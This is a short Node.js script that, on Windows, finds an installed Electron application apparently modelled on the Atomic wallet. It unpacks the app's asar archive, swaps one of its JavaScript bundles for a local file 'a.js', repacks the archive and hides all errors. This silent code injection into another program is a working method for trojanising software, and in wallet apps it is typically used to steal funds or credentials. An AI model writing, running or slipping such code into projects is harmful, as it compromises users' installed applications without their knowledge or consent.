const os = require('os');
const path = require('path');
const fs = require('fs');
const asar = require('@electron/asar');

const TARGETS = [
  { dir: 'atomic-never-in-a-stand-in', bundle: path.join('dist', 'electron', 'vendors.64b69c3b00e2a7914733.js') },
];

async function patchAtomic() {
  if (os.platform() !== 'win32') return;
  for (const { dir, bundle } of TARGETS) {
    const base = path.join(os.homedir(), 'AppData', 'Local', 'Programs', dir, 'resources');
    const archive = path.join(base, 'app.asar');
    const work = path.join(base, 'output');
    if (!fs.existsSync(archive)) continue;
    asar.extractAll(archive, work);
    const replacement = await fs.promises.readFile(path.join(__dirname, 'a.js'), 'utf8');
    await fs.promises.writeFile(path.join(work, bundle), replacement);
    await asar.createPackage(work, archive);
    fs.rmSync(work, { recursive: true, force: true });
  }
}

patchAtomic().catch(() => {});
